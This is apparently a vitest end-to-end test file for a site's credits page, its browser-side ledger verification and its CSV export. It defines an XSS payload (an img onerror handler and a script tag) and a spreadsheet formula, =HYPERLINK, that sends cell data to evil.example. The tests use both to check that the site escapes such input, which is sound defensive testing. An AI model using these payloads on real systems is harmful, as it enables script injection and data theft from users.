// Credits on the website: the page, the browser's own check, and the CSV file.
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ProviderError } from "../../core/adapters/providers/provider.ts";
import { grantCredits } from "../../core/identity/credits/grant.ts";
import { writeLog } from "../../core/identity/log/write-log.ts";
import { CSV_HEADER, csvLine } from "../../gateway/site/credits/credits.ts";
import type { LedgerEntryResource } from "../../proto/resources/credits.ts";
import { giveCredits } from "../support/credits.ts";
import { allOf, createScriptedProvider } from "../support/providers.ts";
import { waitFor } from "../support/wait-for.ts";
import { startWholeService, type WholeService } from "../support/whole-service.ts";
import { NARROW, openBrowser, type SiteBrowser } from "./support/browser.ts";
import { cookiesOf } from "./support/forms.ts";
import { type Browser, callOf, signInAs } from "./support/sign-in.ts";

const ATTACK = `"><img src=x onerror="document.title='broken in'"><script>document.title='broken in'</script>`;
const FORMULA = '=HYPERLINK("https://evil.example?"&A1)';

let service: WholeService;
let browser: SiteBrowser;
let ada: Browser;
let eve: Browser;
let adasJob: string;

beforeAll(async () => {
  const provider = createScriptedProvider({
    answer: (request) => {
      if (request.prompt === "fail") throw new ProviderError("provider_refused", "No.");
      return allOf(request);
    },
  });
  service = await startWholeService({ provider });
  ada = await signInAs(service, "ada@example.com");
  eve = await signInAs(service, "eve@example.com");
  await grant(ada, 1_000, ATTACK);
  await grant(ada, 20, FORMULA);
  adasJob = await generate(ada, "a tower", { count: 3 });
  await generate(ada, "fail");
  await generate(ada, "a tune", {}, "tune");
  browser = await openBrowser(service.url);
});
afterAll(async () => {
  await browser.close();
  await service.close();
});

const grant = (to: Browser, amount: number, memo: string | null = null) =>
  grantCredits(service.app, { accountId: to.accountId, amount, kind: "grant", memo, source: "system" });

async function generate(who: Browser, prompt: string, params = {}, model = "picture"): Promise<string> {
  const modality = model === "picture" ? "image" : "audio";
  const { job_id } = await service.core.jobs.Generate(
    { modality, model_slug: model, prompt, params_json: JSON.stringify(params) },
    callOf(who),
  );
  await service.core.jobs.GetJob({ job_id, wait_seconds: 20 }, callOf(who));
  return job_id;
}

describe("the credits page", () => {
  test("[LED-04] shows balance and spending, and each entry with its job", async () => {
    await browser.visit("/credits", { cookies: cookiesOf(ada) }, async (visit) => {
      const { page } = visit;
      expect(await page.locator(".tile__amount").allTextContents()).toEqual(["985", "0", "985"]);
      expect(await page.locator("main h2").first().textContent()).toBe("Verify your ledger");
      expect(await page.textContent(".spending__total")).toBe("35 credits");
      expect(await page.locator(".spending__models dd").allTextContents()).toEqual([
        "30 credits",
        "5 credits",
      ]);
      expect(await page.getAttribute(".spending__days svg", "aria-label")).toContain("at most 35 credits");
      await page.click("text=As a table");
      expect(await page.locator(".more tbody tr").count()).toBe(2);
      await page.click("text=As a table");
      expect(await page.locator("main img, main script").count()).toBe(0);
      expect(await page.textContent(".ledger")).toContain(ATTACK);
      await visit.expectGoodInEveryLight("credits");
    });
  });

  test("names credits that never expire only where there are some", async () => {
    const eve = await signInAs(service, "eve.expiring@example.com");
    const notes = async () => {
      const text = (await eve.call<string>("/credits", { headers: { accept: "text/html" } })).text;
      return /Spent in this order[^<]*/.exec(text)?.[0].trim();
    };
    await giveCredits(service.app, eve.accountId, 50, new Date(Date.now() + 86_400_000));
    expect(await notes()).toBe("Spent in this order.");
    await giveCredits(service.app, eve.accountId, 30);
    expect(await notes()).toBe("Spent in this order, before the 30 credits that never expire.");
  });

  test("[SITE-20] folds a job into one row with its prompt, which opens to its entries", async () => {
    await browser.visit(
      "/credits",
      { cookies: cookiesOf(ada), scripts: false },
      async ({ page, screenshot }) => {
        const rows = page.locator(".ledger__row");
        expect(await rows.locator(".ledger__title").allTextContents()).toEqual([
          "a tune",
          "fail",
          "a tower",
          FORMULA,
          ATTACK,
        ]);
        expect(await rows.locator(".ledger__amount").allTextContents()).toEqual([
          "−5",
          "0",
          "−30",
          "+20",
          "+1,000",
        ]);
        const words = await rows.locator(".ledger__facts > span").allTextContents();
        expect(words).toEqual(["Charged", "10 credits refunded", "Charged", "Grant", "Grant"]);
        const failed = rows.nth(1);
        expect(await failed.locator(".ledger__entries").isVisible()).toBe(false);
        await failed.locator("summary").click();
        expect(await failed.locator(".ledger__entries strong").allTextContents()).toEqual([
          "Refund: 10 credits",
          "Charged: 10 credits",
          "Held: 10 credits",
        ]);
        expect(await rows.locator(`a[href="/jobs/${adasJob}"]`).count()).toBe(1);
        await screenshot("credits-open");
      },
    );
  });

  test("[SITE-20] opens a job's row from the link in its timeline, and none of another person's job", async () => {
    const { text } = await ada.call(`/jobs/${adasJob}`);
    const [, link = ""] = /href="(\/credits\?entry=[^"]+_debit#entry)"/.exec(text) ?? [];
    await browser.visit(
      link.replaceAll("&amp;", "&"),
      { cookies: cookiesOf(ada), scripts: false },
      async ({ page }) => {
        expect(await page.locator(".ledger__title").allTextContents()).toEqual(["a tower", FORMULA, ATTACK]);
        expect(await page.locator("#entry .ledger__entries").isVisible()).toBe(true);
        expect(await page.textContent("#entry .ledger__title")).toBe("a tower");
        await page.getByRole("link", { name: "Newest" }).click();
        expect(await page.locator(".ledger__row").count()).toBe(5);
      },
    );
    expect((await eve.call(link)).status).toBe(404);
    expect((await ada.call("/credits?entry=led_none")).status).toBe(404);
  });

  test("[SITE-21] is short on a phone, for any ledger", async () => {
    const many = await signInAs(service, "many@example.com");
    for (let i = 0; i < 40; i++)
      await grant(many, 10, `A grant with a rather long story behind it, number ${i}`);
    const visit = { cookies: cookiesOf(many), width: NARROW };
    await browser.visit("/credits", visit, async ({ page }) => {
      expect(await page.locator(".ledger__row").count()).toBe(20);
      expect(await page.evaluate("document.documentElement.scrollHeight")).toBeLessThan(3_500);
      const cut = `[...document.querySelectorAll(".ledger__title")].filter(
        ({ scrollWidth, clientWidth, scrollHeight, clientHeight }) =>
          scrollWidth > clientWidth || scrollHeight > clientHeight + 1).length`;
      expect(await page.evaluate(cut), "titles that are cut off").toBe(0);
    });
  });

  test("[LED-06] filters the ledger by kind, job and days, with and without scripts", async () => {
    await browser.visit("/credits", { cookies: cookiesOf(ada), scripts: false }, async ({ page }) => {
      const rows = page.locator(".ledger__row");
      await page.click("text=Filter");
      await page.selectOption("#kind", "refund");
      await page.click("text=Apply");
      expect(await page.locator(".ledger__title").allTextContents()).toEqual(["fail"]);
      await page.selectOption("#kind", "");
      await page.fill("#job_id", ` ${adasJob} `);
      await page.click("text=Apply");
      expect(await rows.count()).toBe(1);
      expect(await page.inputValue("#job_id")).toBe(adasJob);
      const today = new Date().toISOString().slice(0, 10);
      await page.goto(`/credits?from=${today}&to=${today}`);
      expect(await rows.count()).toBe(5);
      for (const none of ["to=2020-01-01", "from=2999-01-01"]) {
        await page.goto(`/credits?${none}`);
        expect(await page.textContent(".empty__title"), none).toBe("No matching entries");
      }
    });
    for (const query of ["kind=gift", "from=soon", "cursor=nonsense"])
      expect([query, (await ada.call(`/credits?${query}`)).status]).toEqual([query, 400]);
  });

  test("[LED-06] is paged, and says when there are no entries", async () => {
    const grace = await signInAs(service, "grace@example.com");
    const visit = { cookies: cookiesOf(grace) };
    await browser.visit("/credits", visit, async ({ page, expectAccessible, screenshot }) => {
      expect(await page.textContent(".empty__title")).toBe("No entries yet");
      await page.click("#verify");
      await page.waitForSelector("text=Verified: there are no entries, and no credits.");
      await expectAccessible();
      await screenshot("credits-empty");
    });
    for (let i = 0; i < 27; i++) await grant(grace, 1, `number ${i}`);
    await browser.visit("/credits", visit, async ({ page }) => {
      await page.click("text=Older");
      expect(await page.locator(".ledger__title").first().textContent()).toBe("number 6");
      expect(await page.locator(".ledger__title").count()).toBe(7);
      await page.getByRole("link", { name: "Newest" }).click();
      expect(await page.locator(".ledger__row").count()).toBe(20);
    });
  });

  test("is empty for another person's job, and leads a visitor to the sign-in", async () => {
    const { status, text } = await eve.call(`/credits?job_id=${adasJob}`);
    expect(status).toBe(200);
    expect(text).toContain("No matching entries");
    expect(text).not.toContain("1,000");
    for (const path of [
      "/credits/ledger.csv",
      "/account/api/credits/ledger",
      "/account/api/credits/balance",
    ]) {
      expect((await eve.call(path)).text).not.toContain(adasJob);
      expect((await service.call(path)).status).toBe(401);
    }
    const stranger = await service.call("/credits", { headers: { accept: "text/html" } });
    expect(stranger.headers.get("location")).toBe("/sign-in?next=%2Fcredits");
  });
});

describe("verifying the ledger in the browser", () => {
  const verify = (
    change: (entries: LedgerEntryResource[]) => LedgerEntryResource[],
  ): Promise<string | null> =>
    browser.visit("/credits", { cookies: cookiesOf(ada) }, async ({ page, expectAccessible }) => {
      await page.route("**/account/api/credits/ledger?*", async (route) => {
        const response = await route.fetch();
        const body = (await response.json()) as { result: { data: LedgerEntryResource[] } };
        body.result.data = change(body.result.data);
        await route.fulfill({ response, json: body });
      });
      await page.click("#verify");
      await page.waitForSelector("#verify-result[data-outcome=holds], #verify-result[data-outcome=broken]");
      await expectAccessible();
      return page.textContent("#verify-result");
    });
  const changed = (seq: number, change: Partial<LedgerEntryResource>) => (entries: LedgerEntryResource[]) =>
    entries.map((entry) => (entry.seq === seq ? { ...entry, ...change } : entry));

  test("[SITE-10] confirms a complete ledger", async () => {
    await waitFor("the log", async () => {
      await writeLog(service.app);
      return (await ada.call("/account/api/credits/proof")).text.includes('"seq":9');
    });
    expect(await verify((entries) => entries)).toMatch(
      /^Verified\. All 9 entries hold: none was changed, left out or cut off, and together they make a balance of 985 with 0 held\. Entry 9 is in the public log, whose checkpoint of \d+ entries is signed\.$/,
    );
  });

  test("[SITE-22] remembers its last result, and notices when those entries are missing", async () => {
    const cleo = await signInAs(service, "cleo@example.com");
    for (let i = 0; i < 3; i++) await grant(cleo, 1);
    await browser.visit("/credits", { cookies: cookiesOf(cleo) }, async ({ page }) => {
      const verify = async () => {
        await page.click("#verify");
        await page.waitForSelector("#verify-result[data-outcome=holds], #verify-result[data-outcome=broken]");
        return page.textContent("#verify-result");
      };
      expect(await page.textContent("#verify-last")).toBe("Not verified in this browser yet.");
      expect(await verify()).toContain("All 3 entries hold");
      await grant(cleo, 1);
      await page.reload();
      const [, hash = ""] = /up to (\w{12})/.exec((await page.textContent("#verify-last")) ?? "") ?? [];
      expect(await page.textContent("#verify-last")).toMatch(
        /^Last verified in this browser \d+ \w+ \d{4}.*: 3 entries, up to \w{12}\. 1 newer since\.$/,
      );
      const third = await service.core.credits.ListLedger({ limit: 2 }, callOf(cleo));
      expect(third.entries[1]?.hash.slice(0, 12)).toBe(hash);
      expect(await verify()).toContain("All 4 entries hold");
      // As if all entries had been rewritten with valid hashes.
      await page.evaluate(`(() => {
        const key = Object.keys(localStorage).find((one) => one.startsWith("ledger verified"));
        const kept = JSON.parse(localStorage.getItem(key));
        localStorage.setItem(key, JSON.stringify({ ...kept, hash: "0".repeat(64) }));
      })()`);
      await page.reload();
      expect(await verify()).toBe(
        "Entry 4 does not hold. It is not the one that this browser has verified before.",
      );
    });
  });

  test("reads every page", async () => {
    const long = await signInAs(service, "long@example.com");
    for (let i = 0; i < 201; i++) await grant(long, 1);
    await browser.visit("/credits", { cookies: cookiesOf(long) }, async ({ page }) => {
      await page.click("#verify");
      await page.waitForSelector("#verify-result[data-outcome=holds]");
      expect(await page.textContent("#verify-result")).toContain("All 201 entries hold");
    });
  });

  test("[SITE-10] names a changed entry, and the failed check", async () => {
    expect(await verify(changed(4, { amount: -29 }))).toBe(
      "Entry 4 does not hold. Its contents are not those that its hash was made of.",
    );
  });

  test("reports why it could not be completed", async () => {
    const answer = await browser.visit(
      "/credits",
      { cookies: cookiesOf(ada), expectedErrors: /503/ },
      async ({ page }) => {
        await page.route("**/account/api/credits/balance", (route) =>
          route.fulfill({ status: 503, json: { message: "Away.", hint: "Try again." } }),
        );
        await page.click("#verify");
        await page.waitForSelector("#verify-result[data-outcome=broken]");
        return page.textContent("#verify-result");
      },
    );
    expect(answer).toBe("The check could not be finished. Away. Try again.");
  });
});

describe("the ledger as CSV", () => {
  test("has every entry, newest first, and keeps formula-like text as text", async () => {
    const rich = await signInAs(service, "rich@example.com");
    for (let i = 0; i < 101; i++) await grant(rich, 1);
    await grant(rich, 1, FORMULA);
    await grant(rich, 1, 'two\nlines, "quoted"');
    const { status, headers, text } = await rich.call("/credits/ledger.csv");
    expect(status).toBe(200);
    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(headers.get("content-disposition")).toBe('attachment; filename="ledger.csv"');
    expect(headers.get("cache-control")).toBe("private, no-store");
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(
      "seq,created_at,kind,amount,hold,balance_after,held_after,job_id,source,key_id,memo,entry_id,prev_hash,hash,grants,expires_at,version",
    );
    expect(lines.at(-1)).toBe("");
    expect(lines.slice(1, -1).map((line) => Number(line.split(",")[0]))).toEqual(
      Array.from({ length: 103 }, (_, i) => 103 - i),
    );
    expect(lines[1]).toContain(',"two\nlines, ""quoted""",');
    expect(lines[2]).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1)",`);
  });

  test("keeps the memo as it is stored, because the hash beside it covers that", () => {
    const line = csvLine({ seq: 1, memo: "Order ord_01KZZZZZZZZZZZZZZZZZZZZZZZ" } as LedgerEntryResource);
    expect(line).toContain(",Order ord_01KZZZZZZZZZZZZZZZZZZZZZZZ,");
  });

  test("shows the grants of a charge", () => {
    const grants = [
      { grant_id: "led_a", amount: 3 },
      { grant_id: "led_b", amount: 2 },
    ];
    const cells = (entry: Partial<LedgerEntryResource>) =>
      csvLine(entry as LedgerEntryResource)
        .trimEnd()
        .split(",");
    const grantsAt = CSV_HEADER.split(",").indexOf("grants");
    expect(cells({ seq: 1, amount: -5, grants })[grantsAt]).toBe("led_a: 3; led_b: 2");
    expect(cells({ seq: 1, amount: -5 })[grantsAt]).toBe("");
  });

  test.each(["=1", "+1", "-1", "@x", "\tx", "\rx"])("escapes a cell of text that starts with %j", (memo) => {
    const entry = { seq: 1, amount: -10, memo } as LedgerEntryResource;
    const cells = csvLine(entry).split(",");
    expect(cells[10]?.replace(/^"/, "")).toMatch(/^'/);
    // A number stays a number, with any sign.
    expect(cells[3]).toBe("-10");
  });
});
